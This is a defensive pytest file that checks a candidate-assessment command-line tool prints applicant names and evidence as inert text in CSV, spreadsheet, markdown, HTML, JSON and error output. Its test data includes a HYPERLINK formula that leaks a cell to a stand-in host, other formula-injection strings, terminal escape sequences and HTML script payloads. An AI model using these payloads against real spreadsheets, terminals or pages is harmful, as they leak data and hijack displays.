"""Names and evidence typed by applicants and panels reach nobody as a formula, a terminal's
escape codes or raw HTML: every format of the summary, the subject access export, and the
command line's messages."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import subprocess
import sys
from datetime import UTC, datetime
from pathlib import Path

import openpyxl
import pytest

from assessor.storage.campaign_file import load_campaign, save_campaign
from assessor.storage.lock import lock_path
from tests.conftest import run_cli

HYPERLINK = '=HYPERLINK("http://x.example/?leak="&A1,"click")'
ESCAPES = "\x1b]0;owned\x07Jordan\x1b[2J\x9b2J\u202eEllis"
"""A name that would retitle and clear the terminal (OSC, BEL, CSI, the 8-bit CSI) and reverse the text after it."""
SHOWN = "\\x1b]0;owned\\x07Jordan\\x1b[2J\\x9b2J\\u202eEllis"
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
"""Every control character but tab and newline."""


def named(path: Path, *names: str, evidence: str | None = None) -> Path:
    """The campaign with its candidates renamed, in order (and C01's first score's evidence replaced)."""
    campaign = load_campaign(path)
    people = [person.model_copy(update={"name": name}) for person, name in zip(campaign.candidates, names, strict=False)]
    scores = list(campaign.scores)
    if evidence is not None:
        first = next(index for index, score in enumerate(scores) if score.candidate == "C01")
        scores[first] = scores[first].model_copy(update={"evidence": evidence})
    save_campaign(campaign.model_copy(update={"candidates": people + campaign.candidates[len(people) :], "scores": scores}), path)
    return path


@pytest.mark.parametrize("name", [HYPERLINK, "@SUM(1+1)", "+1+1", "-2+3", "\t=1+1", "=1+1"])
def test_csv_writes_every_formula_as_text(minimal: Path, name: str) -> None:
    named(minimal, name, "Sofia Marchetti")
    result = run_cli("summary", str(minimal), "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    assert rows[0]["name"] == "'" + name  # a leading ' is how a spreadsheet is told "text"
    assert rows[1]["name"] == "Sofia Marchetti"  # nothing else changes: numbers stay numbers
    assert rows[0]["total"] == "4.0" and rows[0]["leadership"] == "4.0"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row.values())


def test_the_workbook_keeps_a_formula_as_text(minimal: Path, tmp_path: Path) -> None:
    named(minimal, HYPERLINK, "@SUM(1+1)")
    out = tmp_path / "summary.xlsx"
    assert run_cli("summary", str(minimal), "--format", "xlsx", "-o", str(out)).returncode == 0
    cells = [cell for row in openpyxl.load_workbook(out).active.iter_rows() for cell in row if cell.value in (HYPERLINK, "@SUM(1+1)")]
    assert len(cells) == 2 and {cell.data_type for cell in cells} == {"s"}


@pytest.mark.parametrize("fmt", ["text", "md", "csv", "html", "json"])
def test_no_format_of_the_summary_prints_a_control_character(minimal: Path, fmt: str) -> None:
    named(minimal, ESCAPES, "Sofia\nMarchetti")
    result = run_cli("summary", str(minimal), "--format", fmt)
    assert result.returncode == 0, result.stderr
    assert RAW.findall(result.stdout) == []
    if fmt == "json":  # the same data, its control characters escaped as JSON allows
        assert {row["id"]: row["name"] for row in json.loads(result.stdout)["candidates"]}["C01"] == ESCAPES
    else:  # shown, not obeyed (cut to its column in text)
        assert (SHOWN[:20] if fmt == "text" else SHOWN) in result.stdout
    if fmt == "text":  # a line break in a name starts no row of its own
        assert any(line.startswith("-    Sofia Marchetti ") for line in result.stdout.splitlines())


@pytest.mark.parametrize("fmt", ["md", "html"])
def test_the_feedback_letter_prints_no_control_character(minimal: Path, fmt: str) -> None:
    named(minimal, ESCAPES)
    result = run_cli("feedback", str(minimal), "C01", "--format", fmt)
    assert result.returncode == 0, result.stderr
    assert RAW.findall(result.stdout) == [] and "\\x1b]0;owned\\x07" in result.stdout


def test_markdown_shows_html_as_text(minimal: Path) -> None:
    named(minimal, "<script>alert(1)</script>", "Sofia &amp; <b>Marchetti</b>", evidence="<img src=x onerror=alert(1)> \x1b[2J")
    summary = run_cli("summary", str(minimal), "--format", "md").stdout
    assert "| &lt;script>alert(1)&lt;/script> |" in summary
    assert "| Sofia &amp;amp; &lt;b>Marchetti&lt;/b> |" in summary
    export = run_cli("export-candidate", str(minimal), "C01", "--format", "md")
    assert export.returncode == 0, export.stderr
    assert "<" not in export.stdout.replace("&lt;", "")
    assert "&lt;img src=x onerror=alert(1)> \\x1b[2J" in export.stdout and RAW.findall(export.stdout) == []
    record = json.loads(run_cli("export-candidate", str(minimal), "C01").stdout)
    assert record["scores"][0]["evidence"] == "<img src=x onerror=alert(1)> \x1b[2J"  # the JSON keeps the data


def test_messages_show_control_characters_from_files_locks_and_options(minimal: Path) -> None:
    holder = subprocess.Popen([sys.executable, "-c", "import sys; sys.stdin.read()"], stdin=subprocess.PIPE)
    try:
        since = datetime.now(UTC).strftime("%Y-%m-%dT%H:%M:%SZ")  # after the holder started: its lock, held
        lock_path(minimal).write_text(f'user = "amara\\u001b]0;owned\\u0007"\nhost = "{socket.gethostname()}"\npid = {holder.pid}\nsince = {since}\n')
        result = run_cli(
            "moderate", str(minimal), "--as", "P1", "--candidate", "C01", "--criterion", "leadership", "--stage", "interview", "--score", "5"
        )
    finally:
        holder.kill()
        holder.wait()
    assert result.returncode == 1
    assert RAW.findall(result.stderr) == [] and "amara\\x1b]0;owned\\x07" in result.stderr
    assert len(result.stderr.splitlines()) == 1

    odd = minimal.with_name("odd\x1b[2Jname.toml")
    result = run_cli("validate", str(odd))
    assert (result.returncode, result.stderr) == (1, f"{minimal.parent}/odd\\x1b[2Jname.toml: no such file\n")

    result = run_cli("summary", str(minimal), "--as", "P1\x1b[2J")
    assert result.returncode == 1 and RAW.findall(result.stderr) == []


def test_an_id_with_a_control_character_is_refused(minimal: Path) -> None:
    minimal.write_text(minimal.read_text().replace('id = "C01"', 'id = "C01\\u001b[2J"'))
    before = minimal.read_bytes()
    result = run_cli("validate", str(minimal))
    assert result.returncode == 1
    assert result.stderr.splitlines() == [
        f"{minimal}:64: candidates[0].id: 'C01\\x1b[2J' is not a valid id (letters, digits, '-', '_' or '.', no spaces)"
    ]
    assert minimal.read_bytes() == before
    result = run_cli("new", str(minimal.with_name("new.toml")), "--role", "head-of-digital", "--id", "hod\x1b[2J")
    assert result.returncode == 1 and RAW.findall(result.stderr) == [] and "is not a valid id" in result.stderr
    assert not minimal.with_name("new.toml").exists()


def test_a_usage_error_shows_what_was_typed_with_its_escape_codes_visible(minimal: Path) -> None:
    result = run_cli("validate", str(minimal), "--bo\x1b[2Jgus")
    assert result.returncode == 2
    assert "\x1b" not in result.stderr and "unrecognized arguments: --bo\\x1b[2Jgus" in result.stderr
